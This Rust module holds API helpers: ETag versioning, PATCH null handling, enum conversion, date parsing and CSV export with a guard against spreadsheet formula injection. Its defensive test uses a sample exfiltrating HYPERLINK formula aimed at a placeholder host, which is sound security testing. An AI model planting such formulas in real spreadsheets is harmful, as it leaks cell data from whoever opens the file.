//! Small pieces of the API conventions (DESIGN.md §4) that every resource uses: versions as
//! `ETag`/`If-Match`, and PATCH fields that tell `null` from absent.

use actix_web::HttpRequest;
use actix_web::http::header;
use serde::Deserialize;

use crate::error::ApiError;

/// The `ETag` of a resource at `version`.
pub fn etag(version: i64) -> header::ETag {
    header::ETag(header::EntityTag::new_strong(version.to_string()))
}

/// The version named by `If-Match`, if the header is present.
pub fn if_match(req: &HttpRequest) -> Result<Option<i64>, ApiError> {
    let Some(value) = req.headers().get(header::IF_MATCH) else {
        return Ok(None);
    };
    value
        .to_str()
        .ok()
        .map(|v| v.trim().trim_start_matches("W/").trim_matches('"'))
        .and_then(|v| v.parse().ok())
        .map(Some)
        .ok_or_else(|| {
            ApiError::BadRequest("If-Match must be the ETag of the resource, e.g. \"3\"".to_owned())
        })
}

/// For `#[serde(default, deserialize_with = "present")]`: an explicit `null` is `Some(None)`
/// (clear the field), an absent field is `None` (keep it).
pub fn present<'de, D, T>(deserializer: D) -> Result<Option<Option<T>>, D::Error>
where
    D: serde::Deserializer<'de>,
    T: Deserialize<'de>,
{
    Option::<T>::deserialize(deserializer).map(Some)
}

/// Declares an API enum mirroring a domain one (same variant names), with its JSON names and
/// conversions both ways.
macro_rules! api_enum {
    // `tt`, not `literal`: utoipa reads the rename only from a plain literal token.
    ($(#[$meta:meta])* $dto:ident => $domain:ident { $($variant:ident => $text:tt),* $(,)? }) => {
        $(#[$meta])*
        #[derive(Debug, Clone, Copy, serde::Serialize, serde::Deserialize, utoipa::ToSchema, PartialEq, Eq)]
        pub enum $dto { $(#[serde(rename = $text)] $variant),* }

        impl From<$dto> for $domain {
            fn from(value: $dto) -> Self {
                match value { $($dto::$variant => $domain::$variant),* }
            }
        }

        impl From<$domain> for $dto {
            fn from(value: $domain) -> Self {
                match value { $($domain::$variant => $dto::$variant),* }
            }
        }
    };
}

/// The day a request names (Gregorian or Jalali), or today when it names none.
pub fn day_or_today(field: &str, input: Option<&str>) -> Result<chrono::NaiveDate, ApiError> {
    match input {
        Some(text) => Ok(tavana_domain::calendar::parse_date(field, text)?),
        None => Ok(chrono::Utc::now().date_naive()),
    }
}

/// Trimmed free text; blank is none.
pub fn optional_text(input: Option<String>) -> Option<String> {
    input.map(|t| t.trim().to_owned()).filter(|t| !t.is_empty())
}

/// A cell as a spreadsheet should show it: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return (a formula to Excel and LibreOffice: CSV injection) gets a leading `'`, which
/// they show as text. Numbers (`-12`, `+3.5`) are left as they are.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && cell.parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// CSV with a header row, UTF-8 with a byte-order mark so that spreadsheet programs show Persian
/// text correctly. Text that a spreadsheet would run as a formula is written inert (`spreadsheet_safe`).
pub fn csv_response(rows: &[Vec<String>]) -> Result<actix_web::HttpResponse, ApiError> {
    let mut writer = csv::Writer::from_writer(Vec::from("\u{feff}".as_bytes()));
    for row in rows {
        writer
            .write_record(row.iter().map(|cell| spreadsheet_safe(cell).into_owned()))
            .map_err(ApiError::internal)?;
    }
    let body = writer.into_inner().map_err(ApiError::internal)?;
    Ok(actix_web::HttpResponse::Ok()
        .insert_header((
            header::CONTENT_TYPE,
            header::HeaderValue::from_static("text/csv; charset=utf-8"),
        ))
        .body(body))
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_safe;

    #[test]
    fn formulas_are_written_as_text_and_numbers_as_numbers() {
        for formula in [
            "=HYPERLINK(\"https://x/?\"&A1,\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for plain in ["-12", "+3.5", "0.25", "national_id", "زهرا", "", "a=b"] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
    }
}
